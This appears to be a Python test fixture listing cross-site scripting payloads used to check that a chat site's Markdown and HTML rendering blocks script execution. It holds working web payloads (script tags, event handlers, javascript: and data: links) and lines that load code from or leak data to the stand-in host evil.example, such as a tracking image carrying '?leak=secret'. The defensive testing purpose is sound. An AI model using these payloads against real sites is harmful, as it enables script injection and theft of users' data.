"""Hostile text a model (or a person) might send, for the Markdown and browser tests.

Each payload, if it ran, would set `window.__pwned`, open a dialog, or load something from
evil.example; none of them may do any of that in chatsite.
"""

EVIL = "http://evil.example"

PAYLOADS = [
    # Raw HTML: script, event handlers, dangerous elements
    "<script>window.__pwned = 1</script>",
    "<SCRIPT SRC=http://evil.example/x.js></SCRIPT>",
    '<img src=x onerror="window.__pwned=1">',
    '<svg onload="window.__pwned=1"></svg>',
    "<svg><script>window.__pwned=1</script></svg>",
    "<body onload=window.__pwned=1>",
    '<iframe src="javascript:window.__pwned=1"></iframe>',
    '<iframe srcdoc="<script>parent.__pwned=1</script>"></iframe>',
    '<object data="javascript:window.__pwned=1"></object>',
    '<embed src="javascript:window.__pwned=1">',
    '<details open ontoggle="window.__pwned=1">x</details>',
    '<input autofocus onfocus="window.__pwned=1">',
    '<video><source onerror="window.__pwned=1"></video>',
    "<audio src=x onerror=window.__pwned=1>",
    "<marquee onstart=window.__pwned=1>x</marquee>",
    '<form action="javascript:window.__pwned=1"><button>go</button></form>',
    '<meta http-equiv="refresh" content="0;url=javascript:window.__pwned=1">',
    '<base href="http://evil.example/">',
    '<link rel=stylesheet href="http://evil.example/x.css">',
    "<style>@import 'http://evil.example/x.css'; body{background:url(http://evil.example/bg)}</style>",
    '<div style="background:url(http://evil.example/bg)">styled</div>',
    "<math><mtext><table><mglyph><style><img src=x onerror=window.__pwned=1>",
    '<noscript><p title="</noscript><img src=x onerror=window.__pwned=1>">',
    '<a href="javascript:window.__pwned=1">click me</a>',
    # Markdown links and images
    "[click me](javascript:window.__pwned=1)",
    "[click me](JaVaScRiPt:window.__pwned=1)",
    "[click me](java\tscript:window.__pwned=1)",
    "[click me](&#106;avascript:window.__pwned=1)",
    "[click me](data:text/html;base64,PHNjcmlwdD53aW5kb3cuX19wd25lZD0xPC9zY3JpcHQ+)",
    "[click me](vbscript:msgbox(1))",
    "[click me](<javascript:window.__pwned=1>)",
    "[ref link][x]\n\n[x]: javascript:window.__pwned=1",
    "![tracking pixel](http://evil.example/pixel.png?leak=secret)",
    "![x](javascript:window.__pwned=1)",
    "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIj48L3N2Zz4=)",
    '[a](http://evil.example "title" onmouseover="window.__pwned=1")',
    '[broken link](http://example.com/" onclick="window.__pwned=1)',
    "<http://evil.example/autolink>",
    # Entities, encodings and odd syntax
    "&lt;script&gt;window.__pwned=1&lt;/script&gt;",
    "&#60;img src=x onerror=window.__pwned=1&#62;",
    "\\<script>window.__pwned=1\\</script>",
    "`<script>window.__pwned=1</script>`",
    "```html\n<script>window.__pwned=1</script>\n```",
    '```"><img src=x onerror=window.__pwned=1>\nx\n```',
    "| a | b |\n|---|---|\n| <img src=x onerror=window.__pwned=1> | <script>window.__pwned=1</script> |",
    "> <svg/onload=window.__pwned=1>",
    "* <iframe src=//evil.example></iframe>",
    "<!-- <script>window.__pwned=1</script> -->",
    "<![CDATA[<script>window.__pwned=1</script>]]>",
    '"><script>window.__pwned=1</script>',
    "'; window.__pwned=1; '",
    "{{ 7*7 }} {% csrf_token %} ${window.__pwned=1}",
]
